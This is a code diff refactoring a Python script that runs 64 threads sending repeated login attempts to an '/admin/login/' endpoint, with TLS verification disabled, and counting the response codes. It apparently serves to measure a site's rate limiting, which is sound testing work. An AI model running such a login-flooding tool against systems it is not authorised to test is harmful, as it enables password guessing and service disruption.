@@ -12,12 +12,11 @@ import socket
 import ssl
 import sys
 import time
-from collections import Counter
 from contextlib import suppress
 from threading import Thread
 from urllib.parse import urlencode
 
-from .elsewhere import tell_at_the_end
+from .elsewhere import Tally
 from .site import HOST
 
 THREADS = 64
@@ -25,7 +24,7 @@ LOGIN = "/admin/login/"
 JOURNEY = 0.02  # seconds that a try and its answer travel; without them this would tell how fast nginx refuses
 
 
-def guess(port: int, number: int, tally: Counter) -> None:
+def guess(port: int, number: int, tally: Tally) -> None:
     context = ssl._create_unverified_context()
     while True:
         with suppress(OSError, TypeError):
@@ -35,7 +34,7 @@ def guess(port: int, number: int, tally: Counter) -> None:
                 attempt = attempt_with(read(site), number)
                 while True:
                     site.sendall(attempt)
-                    tally[int(read(site)[9:12])] += 1
+                    tally.add(int(read(site)[9:12]))
                     time.sleep(JOURNEY)
 
 
@@ -65,7 +64,7 @@ def attempt_with(form: bytes, number: int) -> bytes:
 
 
 if __name__ == "__main__":
-    answers = tell_at_the_end()
+    tally = Tally()
     for each in range(THREADS):
-        Thread(target=guess, args=(int(sys.argv[1]), each, answers), daemon=True).start()
+        Thread(target=guess, args=(int(sys.argv[1]), each, tally), daemon=True).start()
     signal.pause()
